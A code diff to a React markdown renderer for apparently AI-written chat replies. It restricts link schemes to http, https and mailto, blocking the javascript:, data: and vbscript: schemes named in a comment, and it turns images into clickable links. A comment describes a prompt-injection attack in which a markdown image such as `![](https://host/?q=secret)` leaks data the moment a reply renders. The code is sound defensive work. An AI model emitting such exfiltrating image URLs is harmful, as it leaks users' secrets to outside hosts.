@@ -28,18 +28,61 @@ function codeOf(pre: Element | undefined): { code: string; language?: string } {
   return { code: textOf(code).replace(/\n$/, ''), language };
 }
 
+/** Schemes a link in a reply may use; anything else (javascript:, data:, vbscript:…) is dropped. */
+const SAFE_PROTOCOLS = new Set(['http:', 'https:', 'mailto:']);
+
+/** `href` when it is a web or mail address (or relative, or a fragment), else null. */
+export function safeHref(href: string | undefined): string | null {
+  if (!href) return null;
+  const trimmed = href.trim();
+  if (trimmed.startsWith('#') || (trimmed.startsWith('/') && !trimmed.startsWith('//'))) return trimmed;
+  try {
+    return SAFE_PROTOCOLS.has(new URL(trimmed, 'https://relative.invalid/').protocol) ? trimmed : null;
+  } catch {
+    return null;
+  }
+}
+
+function hostOf(href: string): string {
+  try {
+    return new URL(href, 'https://relative.invalid/').host.replace(/^relative\.invalid$/, '') || href;
+  } catch {
+    return href;
+  }
+}
+
+// An image in a reply is never fetched by itself: a prompt-injected `![](https://host/?q=secret)`
+// would send whatever the model put in the URL the moment the reply renders. It becomes a link
+// the reader can choose to follow.
+function ImageLink({ src, alt }: { src?: unknown; alt?: string }) {
+  const href = typeof src === 'string' ? safeHref(src) : null;
+  const label = `Image: ${alt?.trim() || (href ? hostOf(href) : 'not shown')}`;
+  if (!href) return <span className="text-zinc-600 dark:text-zinc-400">[{label}]</span>;
+  return (
+    <a href={href} target="_blank" rel="noopener noreferrer nofollow" className="text-blue-700 underline underline-offset-2 dark:text-blue-300">
+      {label}
+    </a>
+  );
+}
+
 const COMPONENTS: Components = {
   pre: ({ node }) => <CodeBlock {...codeOf(node)} />,
   code: ({ children }) => (
     <code className="rounded bg-zinc-100 px-1 py-0.5 font-mono text-[0.9em] dark:bg-zinc-800">{children}</code>
   ),
-  a: ({ children, href }) => (
-    <a href={href} target="_blank" rel="noopener noreferrer nofollow" className="text-blue-600 underline underline-offset-2 dark:text-blue-400">
-      {children}
-    </a>
-  ),
+  a: ({ children, href }) => {
+    const safe = safeHref(href);
+    if (!safe) return <span className="underline decoration-dotted">{children}</span>;
+    return (
+      <a href={safe} target="_blank" rel="noopener noreferrer nofollow" className="text-blue-700 underline underline-offset-2 dark:text-blue-300">
+        {children}
+      </a>
+    );
+  },
+  img: ({ src, alt }) => <ImageLink src={src} alt={alt} />,
   table: ({ children }) => (
-    <div className="my-3 overflow-x-auto">
+    // Focusable so a keyboard can scroll a table wider than the screen.
+    <div className="my-3 overflow-x-auto focus-visible:outline-2 focus-visible:outline-blue-600" tabIndex={0}>
       <table className="w-full border-collapse text-sm">{children}</table>
     </div>
   ),
